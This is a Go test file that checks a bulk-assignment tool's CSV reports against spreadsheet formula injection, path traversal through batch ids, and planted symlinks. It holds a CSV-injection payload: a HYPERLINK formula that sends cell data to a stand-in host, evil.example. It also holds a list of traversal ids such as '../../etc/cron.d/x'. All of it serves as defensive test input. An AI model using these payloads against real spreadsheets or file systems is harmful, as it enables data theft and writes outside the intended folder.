package report_test

// Security properties of the report files: no cell a spreadsheet would run
// as a formula, and no batch id that points a report outside its folder.
// SECURITY.md names these tests.

import (
	"bytes"
	"encoding/csv"
	"errors"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/bulkassign/bulkassign/importer"
	"github.com/bulkassign/bulkassign/jobs"
	"github.com/bulkassign/bulkassign/report"
)

// formulaLeads are the first characters a spreadsheet reads as the start
// of a formula (OWASP, "CSV Injection"): each must be neutralised.
var formulaLeads = []string{"=", "+", "-", "@", "\t", "\r"}

// payload is a classic CSV injection cell behind lead.
func payload(lead string) string { return lead + `HYPERLINK("http://evil.example/?"&A1,"x")` }

// readAllCSV parses a report file; every record, the header included.
func readAllCSV(t *testing.T, path string) [][]string {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	cr := csv.NewReader(bytes.NewReader(b))
	cr.FieldsPerRecord = -1
	recs, err := cr.ReadAll()
	if err != nil {
		t.Fatalf("%s: %v", path, err)
	}
	return recs
}

// wantNoFormula fails for every cell of path that starts with a formula
// character, and returns how many cells were neutralised (start with the
// quote).
func wantNoFormula(t *testing.T, path string) (quoted int) {
	t.Helper()
	for i, rec := range readAllCSV(t, path) {
		for j, cell := range rec {
			if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
				t.Errorf("%s record %d column %d: %q starts a formula", filepath.Base(path), i, j, cell)
			}
			if strings.HasPrefix(cell, "'") {
				quoted++
			}
		}
	}
	return quoted
}

// TestFormulaNeutralisedEverywhere puts a formula behind every leading
// character into every column a report writes text to — ids, the
// removeExistingAgents text, extra column names and cells, the API's error
// and the row's own error and reason — and checks no cell of either file
// starts a formula, while the text after the quote is kept whole.
func TestFormulaNeutralisedEverywhere(t *testing.T) {
	t.Parallel()
	for _, lead := range formulaLeads {
		p := payload(lead)
		extras := []string{p, "plain", "n" + p}
		entries := []report.Entry{
			{ // succeeded, hostile everywhere the input reaches
				Row:    jobs.Row{Line: 2, ContactID: p, MemberID: p, Extra: []string{p, p, p}},
				Result: jobs.Result{Status: jobs.StatusSucceeded, HTTPStatus: 200, Attempts: 1},
			},
			{ // failed with the API's own message
				Row:    jobs.Row{Line: 3, ContactID: "c2", MemberID: p, Extra: []string{"", p}},
				Result: jobs.Result{Status: jobs.StatusFailed, HTTPStatus: 400, Attempts: 1, Reason: p, Error: p},
			},
			{ // failed with only a reason code
				Row:    jobs.Row{Line: 4, ContactID: "c3", MemberID: "m3"},
				Result: jobs.Result{Status: jobs.StatusFailed, Reason: p},
			},
			{ // invalid: the row's own text
				Row: jobs.Row{Line: 5, ContactID: p, MemberID: "m4", ReplaceText: p, Extra: []string{p},
					Reason: "invalid_replace", Error: p},
			},
			{ // invalid with a reason and no message
				Row: jobs.Row{Line: 6, ContactID: p, MemberID: p, Reason: p},
			},
		}
		dir := filepath.Join(t.TempDir(), "b")
		if err := report.Write(dir, report.Summary{BatchID: "b"}, extras, seq(entries, nil)); err != nil {
			t.Fatal(err)
		}
		quoted := 0
		for _, name := range []string{report.SucceededFile, report.FailedFile} {
			quoted += wantNoFormula(t, filepath.Join(dir, name))
		}
		// Header: 1 hostile name in each file. Line 2: contact, member, 3
		// extras. Line 3: member, extra, error. Line 4: error (the reason).
		// Line 5: contact, replace text, extra, error. Line 6: contact,
		// member, error (the row's reason).
		if want := 2 + 5 + 3 + 1 + 4 + 3; quoted != want {
			t.Errorf("lead %q: %d cells neutralised, want %d", lead, quoted, want)
		}
		for _, name := range []string{report.SucceededFile, report.FailedFile} {
			for _, rec := range readAllCSV(t, filepath.Join(dir, name)) {
				for _, cell := range rec {
					if strings.HasPrefix(cell, "'") && cell[1:] != p {
						t.Errorf("lead %q: neutralised cell %q lost text: want '%s", lead, cell, p)
					}
				}
			}
		}
	}
}

// TestFormulaNeutralisedDLQExport: `bulkassign dlq export` writes with
// WriteFailed, which neutralises the same way.
func TestFormulaNeutralisedDLQExport(t *testing.T) {
	t.Parallel()
	var buf bytes.Buffer
	entries := []report.Entry{{
		Row:    jobs.Row{Line: 2, ContactID: "c1", MemberID: "m1", Extra: []string{"=1+1"}},
		Result: jobs.Result{Status: jobs.StatusFailed, Attempts: 5, Reason: "http_503", Error: "@SUM(A1)"},
	}}
	if err := report.WriteFailed(&buf, []string{"-x"}, seq(entries, nil)); err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "dead.csv")
	if err := os.WriteFile(path, buf.Bytes(), 0o600); err != nil {
		t.Fatal(err)
	}
	if n := wantNoFormula(t, path); n != 3 {
		t.Errorf("%d cells neutralised, want 3 (header, extra, error):\n%s", n, buf.String())
	}
}

// TestFormulaNeutralisedInRollback: rollback.csv carries contact ids from
// the ledger and agent ids the CRM answered; both are neutralised, in
// rollback-unrestorable.csv too.
func TestFormulaNeutralisedInRollback(t *testing.T) {
	t.Parallel()
	rows := []jobs.Row{
		vrow(2, "=c1", "x", true),
		vrow(3, "+c2", "x", true), // no agents before: unrestorable
		vrow(4, "@c3", "x", true), // not recorded: unrestorable
	}
	b := newLedgerBatch(t, true, rows)
	b.previous(t, "=c1", "=HYPERLINK(1)", "-a2", "\ta3", "a4")
	b.previous(t, "+c2")
	for _, l := range []int{2, 3, 4} {
		b.result(t, l, jobs.StatusSucceeded)
	}
	dir, _, _ := b.report(t)
	if n := wantNoFormula(t, filepath.Join(dir, report.RollbackFile)); n != 4+3 {
		t.Errorf("rollback.csv: %d cells neutralised, want 7", n)
	}
	if n := wantNoFormula(t, filepath.Join(dir, report.RollbackUnrestorableFile)); n != 2 {
		t.Errorf("rollback-unrestorable.csv: %d cells neutralised, want 2", n)
	}
}

// TestNeutraliseOnlyASCIILeads pins the decision on look-alikes: the
// fullwidth forms (U+FF1D ＝, U+FF0B ＋, U+FF0D －, U+FF20 ＠) and a formula
// behind a space are left as they are. Spreadsheets start a formula only
// on the ASCII characters when they open a CSV file, and the importer trims
// cells, so " =" never reaches a report from an input file. Changing this
// list is a deliberate decision: update SECURITY.md with it.
func TestNeutraliseOnlyASCIILeads(t *testing.T) {
	t.Parallel()
	cells := []string{"＝1+1", "＋1", "－1", "＠SUM(A1)", " =1+1", "a=1", "'=1"}
	entries := []report.Entry{{
		Row:    jobs.Row{Line: 2, ContactID: "c1", MemberID: "m1", Extra: cells},
		Result: jobs.Result{Status: jobs.StatusSucceeded},
	}}
	dir := t.TempDir()
	if err := report.Write(dir, report.Summary{}, []string{"a", "b", "c", "d", "e", "f", "g"}, seq(entries, nil)); err != nil {
		t.Fatal(err)
	}
	recs := readAllCSV(t, filepath.Join(dir, report.SucceededFile))
	if got := recs[1][4 : 4+len(cells)]; !slices.Equal(got, cells) {
		t.Errorf("cells written as %q, want unchanged %q", got, cells)
	}
}

// TestNeutralisedFailedCSVReimports: the quote the report adds is taken
// off again when failed.csv is fed back in, so a fixed file imports the
// text as it was.
func TestNeutralisedFailedCSVReimports(t *testing.T) {
	t.Parallel()
	var entries []report.Entry
	var want [][]string
	for i, lead := range []string{"=", "+", "-", "@"} {
		extra := []string{payload(lead), lead + "5"}
		entries = append(entries, report.Entry{
			Row:    jobs.Row{Line: i + 2, ContactID: "c" + string(rune('a'+i)), MemberID: "m1", Extra: extra},
			Result: jobs.Result{Status: jobs.StatusFailed, HTTPStatus: 503, Attempts: 5, Error: lead + "boom"},
		})
		want = append(want, extra)
	}
	dir := t.TempDir()
	if err := report.Write(dir, report.Summary{}, []string{"note", "score"}, seq(entries, nil)); err != nil {
		t.Fatal(err)
	}
	f, err := os.Open(filepath.Join(dir, report.FailedFile))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	dec, err := importer.NewDecoder(f, report.FailedFile, importer.FormatCSV, jobs.IDAny) // ids "ca", "m1": the test is about the cells
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; ; i++ {
		row, err := dec.Next()
		if errors.Is(err, io.EOF) {
			if i != len(want) {
				t.Fatalf("read %d rows back, want %d", i, len(want))
			}
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		if !row.Valid() || !slices.Equal(row.Extra, want[i]) {
			t.Errorf("row %d read back as %+v, want extras %q", i, row, want[i])
		}
	}
}

// hostileIDs are batch ids that would point a path elsewhere, or are not
// a single plain path element.
var hostileIDs = []string{
	"", ".", "..", "../x", "../../etc/cron.d/x", "a/b", "/abs", `a\b`, `..\x`, "a/../../x",
	"x\x00y", "a b", "a\nb", "~", "C:x", "%2e%2e", "ｘ", strings.Repeat("a", 129), strings.Repeat("a", 4096),
}

// TestDirRefusesHostileIDs: Dir returns "" for every hostile id, and Write
// refuses "", so nothing is created anywhere.
func TestDirRefusesHostileIDs(t *testing.T) {
	t.Parallel()
	root := t.TempDir()
	base := filepath.Join(root, "reports")
	for _, id := range hostileIDs {
		if report.ValidBatchID(id) {
			t.Errorf("ValidBatchID(%q) = true", id)
		}
		dir := report.Dir(base, id)
		if dir != "" {
			t.Errorf("Dir(base, %q) = %q, want \"\"", id, dir)
		}
		if err := report.Write(dir, report.Summary{BatchID: id}, nil, seq(nil, nil)); err == nil {
			t.Errorf("Write(Dir(base, %q)) succeeded", id)
		}
	}
	if left, _ := os.ReadDir(root); len(left) != 0 {
		t.Errorf("hostile ids created %v in %s", left, root)
	}
}

// TestDirIsAChildOfBase: for any id Dir accepts, the folder is a direct
// child of base whose name is the id, whatever base is (it is the
// operator's --out and is used as given, "../x" included).
func TestDirIsAChildOfBase(t *testing.T) {
	t.Parallel()
	for _, base := range []string{"reports", "../x", "/tmp/a/../b", ".", ""} {
		for _, id := range []string{"b1", "01JAB_cd-9", "-", "_", strings.Repeat("z", 128)} {
			dir := report.Dir(base, id)
			if filepath.Base(dir) != id || filepath.Dir(dir) != filepath.Clean(base) {
				t.Errorf("Dir(%q, %q) = %q: not %q inside %q", base, id, dir, id, filepath.Clean(base))
			}
		}
	}
}

// FuzzDir: no id makes Dir return anything but "" or a direct child of
// base named by the id.
func FuzzDir(f *testing.F) {
	for _, id := range hostileIDs {
		f.Add(id)
	}
	f.Add("b1")
	f.Fuzz(func(t *testing.T, id string) {
		const base = "/srv/reports"
		dir := report.Dir(base, id)
		if dir == "" {
			return
		}
		if filepath.Dir(dir) != base || filepath.Base(dir) != id {
			t.Fatalf("Dir(%q, %q) = %q escapes or renames", base, id, dir)
		}
	})
}

// TestWriteDoesNotFollowFileSymlinks: report files are written to a new
// temporary file and renamed into place, so a symlink planted where a
// report file goes is replaced, and what it points to is left alone.
func TestWriteDoesNotFollowFileSymlinks(t *testing.T) {
	t.Parallel()
	root := t.TempDir()
	dir := filepath.Join(root, "b1")
	if err := os.Mkdir(dir, 0o750); err != nil {
		t.Fatal(err)
	}
	victim := filepath.Join(root, "victim.txt")
	if err := os.WriteFile(victim, []byte("keep me"), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{report.SummaryFile, report.SucceededFile, report.FailedFile} {
		if err := os.Symlink(victim, filepath.Join(dir, name)); err != nil {
			t.Skipf("symlinks not available: %v", err)
		}
	}
	entries := []report.Entry{{Row: jobs.Row{Line: 2, ContactID: "c1", MemberID: "m1"}, Result: jobs.Result{Status: jobs.StatusSucceeded}}}
	if err := report.Write(dir, report.Summary{BatchID: "b1", Rows: 1}, nil, seq(entries, nil)); err != nil {
		t.Fatal(err)
	}
	if got := readFile(t, victim); got != "keep me" {
		t.Errorf("the symlink target was written: %q", got)
	}
	for _, name := range []string{report.SummaryFile, report.SucceededFile, report.FailedFile} {
		fi, err := os.Lstat(filepath.Join(dir, name))
		if err != nil || !fi.Mode().IsRegular() {
			t.Errorf("%s: %v, mode %v: want a regular file in place of the symlink", name, err, fi.Mode())
		}
	}
}
